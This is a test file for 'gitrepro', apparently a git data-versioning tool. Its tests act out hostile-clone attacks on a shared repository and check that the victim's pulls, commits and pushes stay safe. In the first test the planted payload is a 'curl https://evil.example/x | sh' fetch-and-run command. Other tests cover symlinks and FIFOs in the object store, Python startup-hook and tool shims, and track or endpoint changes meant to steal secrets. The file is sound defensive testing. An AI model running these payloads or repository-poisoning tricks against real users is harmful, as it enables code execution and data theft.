/**
 * Issue 10: a shared repository can never be turned against the people who clone it. Each test
 * is the attack, written as the attacker would do it: two clones of one project, the hostile one
 * using plumbing where it must (test/helpers/hostile.ts), the victim doing only ordinary git and
 * gitrepro commands.
 */
import { execFileSync } from 'node:child_process';
import { chmodSync, chownSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { forgeLock, plantObject, pushRaw } from '../helpers/hostile.js';
import { cloneOf, project } from '../helpers/remote.js';
import { sha256 } from '../helpers/repo.js';

/** Names of gitrepro temp files anywhere under `dir` (never left next to data). */
function tempFiles(dir: string): string[] {
  return readdirSync(dir, { recursive: true }).map(String).filter((f) => path.basename(f).startsWith('.gitrepro-tmp'));
}

describe('trust boundary: what arrives by pull', () => {
  it('1. a lock naming code and a venv script outside track: writes nothing on git pull; verify fails naming commit and path', () => {
    const { r: victim, bare, store } = project();
    victim.write('src/train.py', 'print("train")\n');
    victim.write('data/a.csv', 'a,b\n1,2\n');
    victim.commit('start');
    victim.git(['push', '-q', 'origin', 'main']);
    const evil = cloneOf(victim, bare, 'evil');
    const payload = plantObject(store, 'import os\nos.system("curl https://evil.example/x | sh")\n');
    forgeLock(evil, { 'src/train.py': payload, '.venv/bin/activate': payload }, { message: 'refresh data' });
    const bad = evil.head();
    pushRaw(evil);

    const pull = victim.git(['pull', '-q', '--no-rebase', 'origin', 'main'], { ok: [0, 1] });
    expect(victim.head()).toBe(bad); // git did its part
    expect(victim.read('src/train.py').toString()).toBe('print("train")\n');
    expect(victim.exists('.venv')).toBe(false);
    expect(pull.stderr).toMatch(/holds "(src\/train\.py|\.venv\/bin\/activate)", (which that commit's gitrepro\.yaml does not track|a path that git itself tracks in that commit): nothing of it was restored/);
    expect(victim.read('data/a.csv').toString()).toBe('a,b\n1,2\n');
    // a restore by hand refuses it too, and writes nothing
    const restore = victim.gr(['restore'], { ok: [1] });
    expect(restore.stderr).toMatch(/GITREPRO_SNAPSHOT_INVALID.*nothing of it was restored/);
    expect(victim.exists('.venv')).toBe(false);
    // the gate: verify fails for that commit, naming the path
    const v = victim.gr(['verify', bad, '--local'], { ok: [1] });
    expect(v.stdout).toContain(bad.slice(0, 12));
    expect(v.stdout).toMatch(/holds "(src\/train\.py|\.venv\/bin\/activate)", (which that commit's gitrepro\.yaml does not track|a path git itself tracks in that commit)/);
  });

  it('1b. a lock naming a file git tracks, under a track: pattern the same commit widened, is refused too', () => {
    const { r: victim, bare, store } = project();
    victim.write('src/train.py', 'print("train")\n');
    victim.write('data/a.csv', 'a\n');
    victim.commit('start');
    victim.git(['push', '-q', 'origin', 'main']);
    const evil = cloneOf(victim, bare, 'evil');
    evil.write('gitrepro.yaml', evil.read('gitrepro.yaml').toString().replace('- /data/', '- /data/\n  - /src/'));
    evil.git(['add', 'gitrepro.yaml']);
    const payload = plantObject(store, 'print("owned")\n');
    forgeLock(evil, { 'src/train.py': payload });
    const bad = evil.head();
    pushRaw(evil);
    const pull = victim.git(['pull', '-q', '--no-rebase', 'origin', 'main'], { ok: [0, 1] });
    expect(victim.read('src/train.py').toString()).toBe('print("train")\n');
    expect(pull.stderr).toMatch(/holds "src\/train\.py", a path that git itself tracks in that commit/);
    const v = victim.gr(['verify', bad, '--local'], { ok: [1] });
    expect(v.stdout).toMatch(/holds "src\/train\.py", a path git itself tracks in that commit/);
  });

  it('2. a data file that becomes a directory (and back) is recorded and restored both ways; no temp file is left or stored', () => {
    const { r: a, bare } = project();
    a.write('data/x', 'a file\n');
    a.write('data/keep.csv', 'k\n');
    a.commit('x is a file');
    a.git(['push', '-q', 'origin', 'main']);
    const b = cloneOf(a, bare, 'b');
    // the file becomes a directory of two files
    rmSync(a.path('data/x'));
    a.write('data/x/one', '1\n');
    a.write('data/x/two', '2\n');
    a.commit('x is a directory');
    expect(a.read('gitrepro.lock').toString()).toMatch(/^files 3$/m);
    expect(a.grJson(['ls-files']).files.map((f: { path: string }) => f.path)).toEqual(['data/keep.csv', 'data/x/one', 'data/x/two']);
    a.git(['push', '-q', 'origin', 'main']);

    b.git(['pull', '-q', '--no-rebase', 'origin', 'main']);
    expect(b.manifest()).toEqual(a.manifest());
    expect(b.grJson(['status']).clean).toBe(true);
    // back to the commit where it was a file
    b.git(['checkout', '-q', 'HEAD~1']);
    expect(b.read('data/x').toString()).toBe('a file\n');
    expect(b.grJson(['status']).clean).toBe(true);
    expect(tempFiles(b.path('data'))).toEqual([]);
    expect(b.gr(['add']).stdout).toMatch(/0 new object\(s\) stored/);
    b.git(['checkout', '-q', 'main']);
    expect(b.manifest()).toEqual(a.manifest());
    expect(tempFiles(b.path('data'))).toEqual([]);
  });

  it('5. a pointer with the right sha256 and a wrong size is the commit\'s fault: the good object stays, the path is named', () => {
    const { r: victim, bare } = project();
    victim.write('data/a.bin', 'the real bytes\n');
    victim.commit('a');
    victim.git(['push', '-q', 'origin', 'main']);
    const evil = cloneOf(victim, bare, 'evil');
    const sha = sha256('the real bytes\n');
    forgeLock(evil, { 'data/b.bin': { sha256: sha, size: 15 + 7 } });
    const bad = evil.head();
    pushRaw(evil);
    const pull = victim.git(['pull', '-q', '--no-rebase', 'origin', 'main'], { ok: [0, 1] });
    expect(pull.stderr).toMatch(/data\/b\.bin.*pointer.*22 bytes.*15 bytes.*pointer is wrong/);
    expect(victim.exists('data/b.bin')).toBe(false);
    // nothing good was quarantined or deleted
    expect(sha256(readFileSync(victim.objectPath(sha)))).toBe(sha);
    expect(existsSync(path.join(victim.gitDir(), 'gitrepro', 'quarantine')) ? readdirSync(path.join(victim.gitDir(), 'gitrepro', 'quarantine')) : []).toEqual([]);
    expect(victim.read('data/a.bin').toString()).toBe('the real bytes\n');
    const v = victim.gr(['verify', bad, '--local'], { ok: [1] });
    expect(v.stdout).toMatch(/pointer names object [0-9a-f]{12} with 22 bytes, but that object has 15 bytes and is intact/);
  });

  it('3. a FIFO at an object path of a directory store: git pull and install end in bounded time, naming object and remote', () => {
    const { r: victim, bare, store } = project();
    victim.write('data/a.csv', 'a\n');
    victim.commit('a');
    victim.git(['push', '-q', 'origin', 'main']);
    const evil = cloneOf(victim, bare, 'evil');
    evil.write('data/b.csv', 'b\n');
    evil.commit('b');
    evil.git(['push', '-q', 'origin', 'main']);
    const sha = sha256('b\n');
    const obj = path.join(store, 'objects', sha.slice(0, 2), sha.slice(2, 4), sha);
    rmSync(obj);
    execFileSync('mkfifo', [obj]);

    const pull = victim.git(['pull', '-q', '--no-rebase', 'origin', 'main'], { ok: [0, 1], timeoutMs: 30_000 });
    expect(pull.stderr).toMatch(new RegExp(`${sha.slice(0, 12)} on store remote "store" is corrupt \\(a FIFO\\)`));
    expect(victim.exists('data/b.csv')).toBe(false);
    expect(existsSync(victim.objectPath(sha))).toBe(false);
    const fresh = cloneOf(victim, bare, 'fresh', { install: false });
    const install = fresh.gr(['install'], { ok: [1], timeoutMs: 30_000 });
    expect(install.stderr).toMatch(/on store remote "store" is corrupt \(a FIFO\)/);
    expect(fresh.read('data/a.csv').toString()).toBe('a\n');
  });

  it('4. a symlink at an object path never becomes a symlink in a clone; objects of another user are copied, never hard-linked', () => {
    const { r: victim, bare, store } = project();
    victim.write('data/a.csv', 'a\n');
    victim.commit('a');
    victim.git(['push', '-q', 'origin', 'main']);
    const evil = cloneOf(victim, bare, 'evil');
    evil.write('data/secret-link.csv', 'will be a link\n');
    evil.write('data/shared.csv', 'shared bytes\n');
    evil.commit('two files');
    evil.git(['push', '-q', 'origin', 'main']);
    const linkSha = sha256('will be a link\n');
    const linkObj = path.join(store, 'objects', linkSha.slice(0, 2), linkSha.slice(2, 4), linkSha);
    rmSync(linkObj);
    symlinkSync('/etc/hostname', linkObj);
    // the shared store's other object belongs to another user (as it would on a team share)
    const sharedSha = sha256('shared bytes\n');
    const sharedObj = path.join(store, 'objects', sharedSha.slice(0, 2), sharedSha.slice(2, 4), sharedSha);
    chownSync(sharedObj, 65534, 65534);

    const pull = victim.git(['pull', '-q', '--no-rebase', 'origin', 'main'], { ok: [0, 1], timeoutMs: 30_000 });
    expect(pull.stderr).toMatch(new RegExp(`${linkSha.slice(0, 12)} on store remote "store" is corrupt \\(a symbolic link\\)`));
    expect(existsSync(victim.objectPath(linkSha))).toBe(false);
    expect(victim.exists('data/secret-link.csv')).toBe(false);
    expect(victim.read('data/shared.csv').toString()).toBe('shared bytes\n');
    // copied, not linked: the owner of the store's file rewriting it in place changes nothing here
    expect(lstatSync(victim.objectPath(sharedSha)).ino).not.toBe(lstatSync(sharedObj).ino);
    chmodSync(sharedObj, 0o644);
    writeFileSync(sharedObj, 'rewritten by the store\'s owner\n');
    expect(sha256(readFileSync(victim.objectPath(sharedSha)))).toBe(sharedSha);
    expect(victim.read('data/shared.csv').toString()).toBe('shared bytes\n');
    // fsck finds nothing but regular, intact objects
    expect(victim.grJson(['fsck']).corrupt).toEqual([]);
  });

  it('6. a committed env.packages with a local pip.py, sitecustomize.py and tool shims: no code of the repository runs on commit or verify', () => {
    const { r: victim, bare } = project();
    victim.write('data/a.csv', 'a\n');
    victim.commit('a');
    victim.git(['push', '-q', 'origin', 'main']);
    const evil = cloneOf(victim, bare, 'evil');
    const marks = path.join(path.dirname(victim.dir), 'pwned');
    const payload = (name: string) => `import os\nopen(${JSON.stringify(path.join(marks, name))}, "w").write("ran")\n`;
    const shim = (name: string) => `#!/bin/sh\necho ran > ${JSON.stringify(path.join(marks, name))}\necho "Python 9.9.9"\n`;
    evil.write('gitrepro.yaml', `${evil.read('gitrepro.yaml').toString()}env:\n  packages: true\n`);
    evil.write('pip.py', payload('pip.py'));
    evil.write('pip/__init__.py', payload('pip-package'));
    evil.write('pip/__main__.py', payload('pip-main'));
    evil.write('sitecustomize.py', payload('sitecustomize'));
    evil.write('usercustomize.py', payload('usercustomize'));
    evil.write('requirements.txt', 'numpy==1.26.4\n');
    for (const tool of ['python3', 'python', 'nvidia-smi', 'nvcc', 'conda']) evil.write(`bin/${tool}`, shim(tool), 0o755);
    evil.commit('tooling');
    evil.git(['push', '-q', 'origin', 'main']);
    mkdirSync(marks);
    // the victim even accepts the settings, and has the repository's bin/ on PATH, relative and absolute
    victim.git(['pull', '-q', '--no-rebase', 'origin', 'main']);
    victim.gr(['trust']);
    const env = { PATH: `bin::${victim.path('bin')}:${victim.env.PATH}`, PYTHONPATH: victim.dir, PYTHONSTARTUP: victim.path('pip.py') };
    victim.write('data/b.csv', 'b\n');
    victim.gr(['add'], { env });
    victim.git(['commit', '-q', '-am', 'b'], { env });
    const rec = victim.record('HEAD');
    victim.gr(['verify', 'HEAD', '--local'], { env, ok: [0, 1] });
    expect(readdirSync(marks)).toEqual([]);
    expect(rec.env.runtimes.python3).not.toBe('9.9.9');
    expect(rec.env.runtimes.python3).toBe(execFileSync('/usr/bin/env', ['python3', '--version'], { encoding: 'utf8' }).trim().replace('Python ', ''));
  });

  it('7. a track: change from others that would store .env and *.pem: the victim\'s commit is refused and nothing is stored until `gitrepro trust`', () => {
    const { r: victim, bare, store } = project();
    victim.write('data/a.csv', 'a\n');
    victim.write('.gitignore', `${victim.read('.gitignore').toString()}.env\n*.pem\n`);
    victim.write('.env', 'DB_PASS=hunter2-secret\n');
    victim.write('deploy.pem', '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----\n');
    victim.commit('start');
    victim.git(['push', '-q', 'origin', 'main']);
    const evil = cloneOf(victim, bare, 'evil');
    evil.git(['config', 'user.name', 'Eve']);
    evil.git(['config', 'user.email', 'eve@example.com']);
    evil.gr(['track', '/.env', '*.pem']);
    evil.commit('track configs too');
    const bad = evil.head();
    evil.git(['push', '-q', 'origin', 'main']);

    victim.git(['pull', '-q', '--no-rebase', 'origin', 'main']);
    victim.write('train.py', 'lr = 0.1\n');
    victim.git(['add', 'train.py']);
    const c = victim.git(['commit', '-q', '-m', 'code'], { ok: [1] });
    expect(c.stderr).toContain(`track pattern "/.env" was added in commit ${bad.slice(0, 12)} by Eve <eve@example.com>, and this clone has not accepted it`);
    expect(c.stderr).toMatch(/2 file\(s\) only it matches were not stored \(\.env, deploy\.pem\)/);
    expect(c.stderr).toMatch(/gitrepro trust/);
    expect(victim.gr(['add'], { ok: [1] }).stderr).toMatch(/GITREPRO_UNTRUSTED/);
    const secrets = [sha256('DB_PASS=hunter2-secret\n'), sha256(victim.read('deploy.pem'))];
    for (const s of secrets) {
      expect(existsSync(victim.objectPath(s))).toBe(false);
      expect(existsSync(path.join(store, 'objects', s.slice(0, 2), s.slice(2, 4), s))).toBe(false);
    }
    expect(victim.gr(['trust', '--show']).stdout).toMatch(/track pattern "\*\.pem": added \(commit [0-9a-f]{12} by Eve <eve@example\.com>\)/);
    // the user's own consent makes it take effect
    victim.gr(['trust']);
    victim.git(['commit', '-q', '-m', 'code']);
    expect(existsSync(victim.objectPath(secrets[0]!))).toBe(true);
  });

  it('8. a store remote url changed by others: the victim\'s git push refuses to send anything there until `gitrepro trust`', () => {
    const { r: victim, bare, store } = project();
    victim.write('data/a.csv', 'a\n');
    victim.commit('a');
    victim.git(['push', '-q', 'origin', 'main']);
    const evil = cloneOf(victim, bare, 'evil');
    evil.git(['config', 'user.name', 'Eve']);
    evil.git(['config', 'user.email', 'eve@example.com']);
    const evilStore = path.join(path.dirname(victim.dir), 'evil-store');
    evil.write('gitrepro.yaml', evil.read('gitrepro.yaml').toString().replace(store, evilStore));
    evil.commit('move the store');
    evil.git(['push', '-q', 'origin', 'main']);

    victim.git(['pull', '-q', '--no-rebase', 'origin', 'main']);
    victim.write('data/b.csv', 'the victim\'s new data\n');
    victim.commit('b');
    const before = victim.git(['--git-dir', bare, 'rev-parse', 'main']).stdout.trim();
    const push = victim.git(['push', 'origin', 'main'], { ok: [1] });
    expect(push.stderr).toMatch(new RegExp(`store remote "store" url is now "${evilStore.replace(/[/.]/g, '\\$&')}" in commit [0-9a-f]{12} by Eve <eve@example\\.com>, and this clone has not accepted it: store remote "store" was not contacted`));
    const mine = sha256('the victim\'s new data\n');
    const inEvil = () => existsSync(path.join(evilStore, 'objects', mine.slice(0, 2), mine.slice(2, 4), mine));
    expect(inEvil()).toBe(false);
    expect(victim.git(['--git-dir', bare, 'rev-parse', 'main']).stdout.trim()).toBe(before);
    expect(victim.gr(['push'], { ok: [1] }).stderr).toMatch(/GITREPRO_UNTRUSTED/);
    // the victim's own override of the url (git config) is theirs: it works without accepting
    victim.git(['config', 'gitrepro.remote.store.url', store]);
    victim.git(['push', '-q', 'origin', 'main']);
    expect(inEvil()).toBe(false);
    expect(existsSync(path.join(store, 'objects', mine.slice(0, 2), mine.slice(2, 4), mine))).toBe(true);
  });

  it('8b. an S3 endpoint changed by others: no request, signed or not, reaches that server', async () => {
    const server = createServer((s) => {
      hits++;
      s.destroy();
    });
    let hits = 0;
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
    const port = (server.address() as AddressInfo).port;
    try {
      const { r: victim, bare, store } = project();
      victim.write('data/a.csv', 'a\n');
      victim.commit('a');
      victim.git(['push', '-q', 'origin', 'main']);
      const evil = cloneOf(victim, bare, 'evil');
      evil.write('gitrepro.yaml', evil.read('gitrepro.yaml').toString().replace(`url: ${store}`, `url: s3://team-data\n    endpoint: http://127.0.0.1:${port}`));
      evil.commit('s3 now');
      pushRaw(evil);
      victim.git(['pull', '-q', '--no-rebase', 'origin', 'main']);
      victim.write('data/b.csv', 'b\n');
      victim.commit('b');
      const env = { AWS_ACCESS_KEY_ID: 'AKIAVICTIMKEY0000000', AWS_SECRET_ACCESS_KEY: 'victim-secret' };
      const push = victim.git(['push', 'origin', 'main'], { ok: [1], env });
      expect(push.stderr).toMatch(/store remote "store" (url|endpoint) is now .* and this clone has not accepted it/);
      await new Promise((r) => setTimeout(r, 200)); // connections the kernel accepted meanwhile
      expect(hits).toBe(0);
    } finally {
      server.close();
    }
  });
});
